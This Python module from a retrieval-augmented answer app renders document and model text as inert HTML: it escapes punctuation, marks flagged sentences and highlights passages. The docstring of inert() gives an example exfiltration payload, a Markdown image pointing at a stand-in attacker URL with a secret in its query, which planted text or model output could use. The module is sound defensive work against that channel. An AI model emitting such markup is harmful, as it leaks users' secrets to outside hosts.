"""Document and model text as Markdown/HTML that shows exactly that text: the app's only way of
putting such text on a page (answers with flagged sentences marked, passages with spans highlighted,
labels, file names). Also the page style those blocks use (:data:`CSS`)."""

from __future__ import annotations

import re
import string

from rag_app.answer import Answer

CSS = """
<style>
.rag-flagged { background: #fde2e1; border-bottom: 2px dashed #c0392b; padding: 0 2px; }
.rag-passage { border-left: 4px solid #4a7bd0; padding: 0.5rem 0.8rem; background: #f6f8fc;
               white-space: pre-wrap; line-height: 1.5; }
.rag-passage mark { background: #ffe066; padding: 0 2px; }
.rag-answer { white-space: pre-wrap; line-height: 1.6; margin-bottom: 0.5rem; }
</style>
"""


def marked_text(answer: Answer) -> str:
    """The answer as inert HTML (see :func:`inert`) with the sentences the guard flagged wrapped in a
    marked span."""
    text = answer.text
    flagged = sorted(answer.grounding.flagged, key=lambda s: s.start) if answer.grounding is not None else []
    pieces, cursor = [], 0
    for s in flagged:
        if s.start < cursor or text[s.start : s.end] != s.text:
            continue  # spans that no longer match the text are shown unmarked, never misplaced
        pieces.append(inert(text[cursor : s.start]))
        title = inert(f"{s.reason} (support {s.score:.2f})")
        pieces.append(f'<span class="rag-flagged" title="{title}">⚠️ {inert(s.text)}</span>')
        cursor = s.end
    pieces.append(inert(text[cursor:]))
    return "".join(pieces)


# Every ASCII punctuation character and every line break: with these written as numeric character
# references nothing of Markdown (images, links, autolinks, emphasis), GitHub's extensions, Streamlit's
# directives (``:red[...]``, ``:material/...:``), math (``$``) or HTML survives in document or model text.
_INERT = {ord(c): f"&#{ord(c)};" for c in string.punctuation + "\n\r"}


def inert(text: str) -> str:
    """Document or model text as Markdown/HTML source that shows exactly that text and nothing else.

    Passages and answers come from documents and from a model, so they may carry planted markup: an
    image ``![](http://attacker/?q=secret)`` loads a remote URL the moment it is shown (a
    data-exfiltration channel), a link or a raw ``<img>`` does the same on a click or at once. Here
    each punctuation character and line break becomes a character reference, which Markdown and HTML
    both show as the literal character: no image loads, a link is shown as its text with the target
    visible, and it is never clickable. Line breaks are kept when the element has
    ``white-space: pre-wrap`` (``.rag-passage``, ``.rag-answer``); as references they also keep an HTML
    block on one line, so a blank line in a passage cannot end the block and start Markdown.
    """
    return text.translate(_INERT)


def label_text(text: str) -> str:
    """Text for a widget label (Streamlit renders labels as Markdown, images included): backslash-escaped
    punctuation, which labels show as the character itself."""
    return re.sub(r"([\\`*_\[\]()!<>:$|~&])", r"\\\1", text)


def code(text: str) -> str:
    """``text`` (a file name, a path) as a Markdown code span, which shows its content verbatim; the
    fence is longer than any run of backticks inside, so the name cannot close it early."""
    runs = re.findall(r"`+", text)
    fence = "`" * (max((len(r) for r in runs), default=0) + 1)
    return f"{fence} {text} {fence}"


def highlight(text: str, ranges: list[tuple[int, int]]) -> str:
    """``text`` as inert HTML (:func:`inert`) with each character range in ``<mark>`` (overlaps merged)."""
    out, cursor = [], 0
    for start, end in sorted(ranges):
        if start < cursor:
            continue
        parts = re.split(r"(\s*\n\s*)", text[start:end])  # one <mark> per paragraph, breaks between
        marked = "".join(inert(p) if i % 2 else f"<mark>{inert(p)}</mark>" for i, p in enumerate(parts))
        out.append(inert(text[cursor:start]) + marked)
        cursor = end
    out.append(inert(text[cursor:]))
    return "".join(out)
